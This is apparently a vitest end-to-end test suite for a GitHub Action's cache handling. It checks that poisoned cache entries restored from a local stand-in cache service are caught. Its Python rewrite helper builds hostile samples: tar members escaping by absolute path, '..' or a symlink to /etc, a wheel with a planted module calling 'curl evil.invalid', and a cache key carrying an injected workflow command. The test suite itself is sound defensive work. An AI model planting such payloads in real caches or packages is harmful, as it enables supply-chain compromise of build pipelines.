// The Actions cache end to end (issue 18, item 5): `node dist/index.js` saving and restoring
// through the real @actions/cache against a stand-in of GitHub's cache service v2 on 127.0.0.1
// (test/helpers/cache-service.ts). A job on the default branch saves; the next job, on an
// emptied runner (same tool-cache path, nothing in it), restores: cache-hit true and the same
// wheel bytes. A poisoned entry (the real archive of that save, rewritten as someone who can
// write the cache scope would) restored through the same path is caught: nothing lands outside
// the store, nothing planted ships, and the build resolves afresh to the same package. Saves
// happen only where no deploy would restore them, and deploy mode takes from the cache only
// what cache-in-deploy allows.
import { execFileSync } from 'node:child_process'
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gunzipSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cacheJobEnv, startCacheService, type CacheEntry } from '../helpers/cache-service.js'
import { startMoto, type MotoServer } from '../helpers/moto.js'
import { actingCommands } from '../helpers/workflow-commands.js'
import { runAction, TOOLS_BIN, type ActionRun } from '../helpers/run-action.js'
import { sha256Hex, writeWheel } from '../helpers/wheels.js'

const PYTHON = existsSync(join(TOOLS_BIN, 'python')) ? join(TOOLS_BIN, 'python') : 'python3'

let dir: string
/** The paths every job of one "runner" uses, as on GitHub's images: same paths, emptied. */
let workspace: string
let toolCache: string
let runnerTemp: string
let source: string
let plain: string
let pinned: string

/** The event of a job: a push to main, a pull request, ... */
function event(name: string, ref: string): Record<string, string> {
  const payload = join(dir, `event-${name}-${ref.replace(/\W/g, '_')}.json`)
  writeFileSync(
    payload,
    JSON.stringify({
      repository: { default_branch: 'main' },
      ...(name.startsWith('pull_request') ? { pull_request: { base: { ref: 'main' } } } : {})
    })
  )
  return {
    GITHUB_EVENT_NAME: name,
    GITHUB_REF: ref,
    GITHUB_SHA: 'a'.repeat(40),
    GITHUB_EVENT_PATH: payload,
    ...(name.startsWith('pull_request') ? { GITHUB_BASE_REF: 'main' } : {})
  }
}

const PUSH_MAIN = () => event('push', 'refs/heads/main')

/** One job on an emptied runner: the tool cache and temp folders exist and are empty. */
async function job(
  serviceUrl: string,
  jobEvent: Record<string, string>,
  inputs: Record<string, string>,
  extraEnv: Record<string, string> = {}
): Promise<ActionRun> {
  for (const path of [toolCache, runnerTemp]) {
    rmSync(path, { recursive: true, force: true })
    mkdirSync(path, { recursive: true })
  }
  return runAction({
    inputs: {
      mode: 'build',
      source,
      runtime: 'python3.12',
      architectures: 'arm64',
      handler: 'app.handler',
      'import-check': 'false',
      installer: 'pip',
      cache: 'true',
      comment: 'false',
      'output-dir': mkdtempSync(join(dir, 'out-')),
      ...inputs
    },
    env: {
      GITHUB_WORKSPACE: workspace,
      RUNNER_TOOL_CACHE: toolCache,
      RUNNER_TEMP: runnerTemp,
      ...cacheJobEnv(serviceUrl, jobEvent.GITHUB_REF as string),
      ...jobEvent,
      ...extraEnv
    },
    cwd: workspace
  })
}

/** The wheel-store entry's files after a job, name → bytes. */
function storedWheels(): Map<string, Buffer> {
  const root = join(toolCache, 'lambda-python-deploy')
  const wheels = new Map<string, Buffer>()
  for (const key of readdirSync(root).filter((name) => name.startsWith('lambda-python-deploy-v'))) {
    for (const file of readdirSync(join(root, key)).filter((name) => name.endsWith('.whl')))
      wheels.set(`${key}/${file}`, readFileSync(join(root, key, file)))
  }
  return wheels
}

function warnings(run: ActionRun): string {
  return run.stdout
    .split('\n')
    .filter((line) => line.startsWith('::warning'))
    .join('\n')
}

/** The wheel-store entry a job saved (not the size report's). */
function wheelEntry(entries: CacheEntry[]): CacheEntry {
  const found = entries.filter((e) => e.key.startsWith('lambda-python-deploy-v') && e.finalized)
  expect(found).toHaveLength(1)
  return found[0] as CacheEntry
}

/**
 * Rewrites an archive as @actions/cache wrote it (zstd tar, pax): Python's tarfile adds
 * members or rewrites the wheel and the manifest beside it. `{root}` in a name stands for the
 * entry's folder as the archive names it.
 */
const REWRITE = `
import hashlib, io, json, sys, tarfile, zipfile
src, dst, ops = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
tin = tarfile.open(src)
members = [(m, tin.extractfile(m).read() if m.isfile() else None) for m in tin.getmembers()]
manifest = next(m for m, _ in members if m.name.endswith('/manifest.json'))
root = manifest.name.rsplit('/', 1)[0]
data = {m.name: d for m, d in members}

def rewrite_wheel(change):
    wheel = next(m for m, _ in members if m.name.endswith('.whl'))
    data[wheel.name] = change(data[wheel.name])
    doc = json.loads(data[manifest.name])
    for w in doc['wheels']:
        if wheel.name.endswith('/' + w['file']):
            w['sha256'] = hashlib.sha256(data[wheel.name]).hexdigest()
            w['size'] = len(data[wheel.name])
    data[manifest.name] = json.dumps(doc).encode()

def plant(blob):
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(blob)) as zin, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info))
        zout.writestr('tinydep/planted.py', 'import os; os.system("curl evil.invalid")\\n')
    return out.getvalue()

def corrupt(blob):
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        info = z.infolist()[0]
    at = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + 1
    return blob[:at] + bytes([blob[at] ^ 0xFF]) + blob[at + 1:]

if ops.get('plant'): rewrite_wheel(plant)
if ops.get('corrupt'): rewrite_wheel(corrupt)
tout = tarfile.open(dst, 'w', format=tarfile.PAX_FORMAT)
for m, _ in members:
    d = data[m.name]
    if d is not None: m.size = len(d)
    tout.addfile(m, io.BytesIO(d) if d is not None else None)
for add in ops.get('add', []):
    info = tarfile.TarInfo(add['name'].replace('{root}', root))
    if add['type'] == 'symlink':
        info.type, info.linkname = tarfile.SYMTYPE, add['target']
        tout.addfile(info)
    else:
        blob = add.get('text', 'planted').encode()
        info.size = len(blob)
        tout.addfile(info, io.BytesIO(blob))
tout.close()
`

/** The archive's compression, as @actions/cache chose it on this machine (zstd when installed). */
function isZstd(data: Buffer): boolean {
  return data.subarray(0, 4).equals(Buffer.from([0x28, 0xb5, 0x2f, 0xfd]))
}

function poisoned(entry: CacheEntry, ops: Record<string, unknown>): Buffer {
  const work = mkdtempSync(join(dir, 'poison-'))
  const data = entry.data as Buffer
  const zstd = isZstd(data)
  const tar = join(work, 'clean.tar')
  writeFileSync(tar, zstd ? execFileSync('zstd', ['-d', '-c'], { input: data }) : gunzipSync(data))
  execFileSync(PYTHON, ['-c', REWRITE, tar, join(work, 'poisoned.tar'), JSON.stringify(ops)])
  const rewritten = join(work, 'poisoned.tar')
  return zstd ? execFileSync('zstd', ['-q', '-c', rewritten]) : gzipSync(readFileSync(rewritten))
}

let cleanPlain: { entry: CacheEntry; run: ActionRun; wheels: Map<string, Buffer> }
let cleanPinned: { entry: CacheEntry; run: ActionRun }
/** The size report the first job on main kept. */
let cleanReport: CacheEntry

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'lpd-actions-cache-'))
  workspace = join(dir, 'work', 'app', 'app')
  toolCache = join(dir, 'hostedtoolcache')
  runnerTemp = join(dir, 'work', '_temp')
  mkdirSync(workspace, { recursive: true })
  source = join(workspace, 'fn')
  mkdirSync(source)
  writeFileSync(
    join(source, 'app.py'),
    'import tinydep\n\ndef handler(event, context):\n    return tinydep.X\n'
  )
  const wheels = join(dir, 'wheels')
  const wheel = writeWheel(wheels, {
    name: 'tinydep',
    version: '1.0',
    files: { 'tinydep/__init__.py': 'X = 1\n' }
  })
  plain = join(workspace, 'requirements.txt')
  writeFileSync(plain, `--no-index\n--find-links ${wheels}\ntinydep==1.0\n`)
  pinned = join(workspace, 'requirements-pinned.txt')
  writeFileSync(
    pinned,
    `--no-index\n--find-links ${wheels}\ntinydep==1.0 --hash=sha256:${sha256Hex(wheel)}\n`
  )
  // The clean saves every case below starts from: one job each on main.
  const service = await startCacheService()
  try {
    const run = await job(service.url, PUSH_MAIN(), { requirements: plain })
    expect(run.code, run.stdout + run.stderr).toBe(0)
    cleanPlain = { entry: wheelEntry(service.entries), run, wheels: storedWheels() }
    cleanReport = service.entries.find((e) =>
      e.key.startsWith('lambda-python-deploy-report-')
    ) as CacheEntry
    const pinnedRun = await job(service.url, PUSH_MAIN(), { requirements: pinned })
    expect(pinnedRun.code, pinnedRun.stdout + pinnedRun.stderr).toBe(0)
    const saved = service.entries.filter((e) => e.key.startsWith('lambda-python-deploy-v'))
    cleanPinned = {
      entry: saved.find((e) => e.key !== cleanPlain.entry.key) as CacheEntry,
      run: pinnedRun
    }
  } finally {
    await service.stop()
  }
}, 240_000)

afterAll(() => {
  if (dir) rmSync(dir, { recursive: true, force: true })
})

describe('a save on main, a restore on an emptied runner', () => {
  it('the first job resolved and saved its entry in the main scope', () => {
    expect(cleanPlain.run.outputs['cache-hit']).toBe('false')
    expect(cleanPlain.run.stdout).toContain(`Actions cache: saved ${cleanPlain.entry.key}`)
    expect(cleanPlain.entry.scope).toBe('refs/heads/main')
    expect(cleanPlain.wheels.size).toBe(1)
  })

  it('the next job restores it: cache-hit true, the same wheel bytes, the same package', async () => {
    const service = await startCacheService()
    service.entries.push({ ...cleanPlain.entry })
    try {
      const run = await job(service.url, PUSH_MAIN(), { requirements: plain })
      expect(run.code, run.stdout + run.stderr).toBe(0)
      expect(run.outputs['cache-hit']).toBe('true')
      expect(run.stdout).toContain(`Actions cache: restored ${cleanPlain.entry.key}`)
      expect(run.stdout).not.toContain('pip download')
      expect(run.outputs['code-sha256']).toBe(cleanPlain.run.outputs['code-sha256'])
      expect(storedWheels()).toEqual(cleanPlain.wheels)
      expect(warnings(run)).toBe('')
      // Restored in place: nothing left beside the store but the entry itself.
      expect(
        readdirSync(join(toolCache, 'lambda-python-deploy')).filter((n) => n.startsWith('.'))
      ).toEqual([])
    } finally {
      await service.stop()
    }
  })
})

describe('a poisoned entry restored through the same path is caught', () => {
  const escapes = () => ({
    absolute: join(dir, 'planted-absolute'),
    dotdot: join(toolCache, 'planted-dotdot')
  })

  it.each([
    [
      'a member with an absolute path',
      () => ({ add: [{ name: escapes().absolute, type: 'file' }] }),
      /holds ".*planted-absolute", outside every folder this restore asked for/
    ],
    [
      'a member that climbs out with ..',
      () => ({ add: [{ name: '{root}/../../planted-dotdot', type: 'file' }] }),
      /holds ".*\/\.\.\/planted-dotdot", which leaves the folder it belongs to/
    ],
    [
      'a symbolic link out of the entry',
      () => ({ add: [{ name: '{root}/site', type: 'symlink', target: '/etc' }] }),
      /holds ".*\/site", a symbolic link/
    ],
    [
      'a wheel whose bytes no longer match its CRC-32, manifest adjusted to it',
      () => ({ corrupt: true }),
      /refused: .*not a wheel as pip reads it/
    ]
  ])(
    '%s: warning, nothing written outside, fresh resolve, same package',
    async (_what, ops, message) => {
      const service = await startCacheService()
      service.entries.push({ ...cleanPlain.entry, data: poisoned(cleanPlain.entry, ops()) })
      try {
        for (const path of Object.values(escapes())) rmSync(path, { force: true })
        const run = await job(service.url, PUSH_MAIN(), { requirements: plain })
        expect(run.code, run.stdout + run.stderr).toBe(0)
        // @actions/cache's own restore (tar -P) writes these; this one must not.
        for (const path of Object.values(escapes())) expect(existsSync(path), path).toBe(false)
        expect(warnings(run)).toMatch(message)
        expect(run.outputs['cache-hit']).toBe('false')
        expect(run.outputs['code-sha256']).toBe(cleanPlain.run.outputs['code-sha256'])
        expect(storedWheels()).toEqual(cleanPlain.wheels)
      } finally {
        await service.stop()
      }
    }
  )

  it('a wheel rewritten with an extra module, manifest rewritten to match, under hash-pinned requirements', async () => {
    const service = await startCacheService()
    service.entries.push({
      ...cleanPinned.entry,
      data: poisoned(cleanPinned.entry, { plant: true })
    })
    try {
      const run = await job(service.url, PUSH_MAIN(), { requirements: pinned })
      expect(run.code, run.stdout + run.stderr).toBe(0)
      expect(warnings(run)).toMatch(/tinydep .*not among the --hash values/)
      expect(run.outputs['cache-hit']).toBe('false')
      expect(run.outputs['code-sha256']).toBe(cleanPinned.run.outputs['code-sha256'])
    } finally {
      await service.stop()
    }
  })
})

describe('a key the service returns is never printed raw', () => {
  it('a size report kept under a key that carries a workflow command: looked up on main, restored on a pull request', async () => {
    const service = await startCacheService()
    // Starts with the key a job on main looks up, and with the prefix a pull request restores.
    const planted = `${cleanReport.key} ##[set-output name=changed;]true`
    service.entries.push({ ...cleanReport, key: planted })
    try {
      const main = await job(service.url, PUSH_MAIN(), { requirements: plain })
      const pr = await job(service.url, event('pull_request', 'refs/pull/7/merge'), {
        requirements: plain
      })
      for (const run of [main, pr]) {
        expect(run.code, run.stdout + run.stderr).toBe(0)
        expect(actingCommands(run.stdout).filter((c) => c.command === 'set-output')).toEqual([])
      }
      // The pull request compared with that report, and took no commit id from the key.
      expect(pr.stdout).toContain('Comparing with the size report of main')
      expect(pr.summary).not.toContain('set-output')
    } finally {
      await service.stop()
    }
  })
})

describe('where a run saves', () => {
  it.each([
    [
      'pull_request_target',
      () => event('pull_request_target', 'refs/heads/main'),
      /a pull_request_target run writes into the base branch cache scope/
    ],
    [
      'a push to another branch',
      () => event('push', 'refs/heads/feature'),
      /refs\/heads\/feature is not the default branch/
    ]
  ])('%s: never', async (_what, jobEvent, reason) => {
    const service = await startCacheService()
    try {
      const run = await job(service.url, jobEvent(), { requirements: plain })
      expect(run.code, run.stdout + run.stderr).toBe(0)
      expect(run.stdout).toMatch(reason)
      expect(service.requests.filter((r) => r.startsWith('CreateCacheEntry'))).toEqual([])
      expect(service.entries).toEqual([])
    } finally {
      await service.stop()
    }
  })

  it('a pull_request run: into its own scope, which a job on main does not read', async () => {
    const service = await startCacheService()
    try {
      const pr = await job(service.url, event('pull_request', 'refs/pull/7/merge'), {
        requirements: plain
      })
      expect(pr.code, pr.stdout + pr.stderr).toBe(0)
      expect(wheelEntry(service.entries).scope).toBe('refs/pull/7/merge')
      const main = await job(service.url, PUSH_MAIN(), { requirements: plain })
      expect(main.outputs['cache-hit']).toBe('false')
    } finally {
      await service.stop()
    }
  })
})

describe('mode: deploy and cache-in-deploy', () => {
  let moto: MotoServer

  beforeAll(async () => {
    moto = await startMoto()
  })
  afterAll(async () => {
    await moto?.stop()
  })

  async function deploy(
    requirements: string,
    entry: CacheEntry,
    policy?: string
  ): Promise<{ run: ActionRun; asked: string[] }> {
    await moto.reset()
    await moto.createFunction({ name: 'orders', runtime: 'python3.12', architecture: 'arm64' })
    const service = await startCacheService()
    service.entries.push({ ...entry })
    try {
      const run = await job(
        service.url,
        PUSH_MAIN(),
        {
          mode: 'deploy',
          'function-name': 'orders',
          requirements,
          runtime: '',
          architectures: '',
          ...(policy ? { 'cache-in-deploy': policy } : {})
        },
        moto.env
      )
      expect(run.code, run.stdout + run.stderr).toBe(0)
      return {
        run,
        asked: service.requests.filter((r) => r === `GetCacheEntryDownloadURL ${entry.key}`)
      }
    } finally {
      await service.stop()
    }
  }

  it('hashed (the default), requirements without hashes: the cache is not read, the deploy resolves', async () => {
    const { run, asked } = await deploy(plain, cleanPlain.entry)
    expect(asked).toEqual([])
    expect(run.stdout).toContain('the Actions cache is not read: the requirements pin no hashes')
    expect(run.outputs['cache-hit']).toBe('false')
    expect(run.outputs['code-sha256']).toBe(cleanPlain.run.outputs['code-sha256'])
  })

  it('hashed, requirements with hashes: restored and checked against them', async () => {
    const { run, asked } = await deploy(pinned, cleanPinned.entry)
    expect(asked).toHaveLength(1)
    expect(run.outputs['cache-hit']).toBe('true')
    expect(run.outputs['code-sha256']).toBe(cleanPinned.run.outputs['code-sha256'])
  })

  it('any: restored without hashes, as in mode: build', async () => {
    const { run, asked } = await deploy(plain, cleanPlain.entry, 'any')
    expect(asked).toHaveLength(1)
    expect(run.outputs['cache-hit']).toBe('true')
  })

  it('none: never read, even with hashes', async () => {
    const { run, asked } = await deploy(pinned, cleanPinned.entry, 'none')
    expect(asked).toEqual([])
    expect(run.outputs['cache-hit']).toBe('false')
  })
})
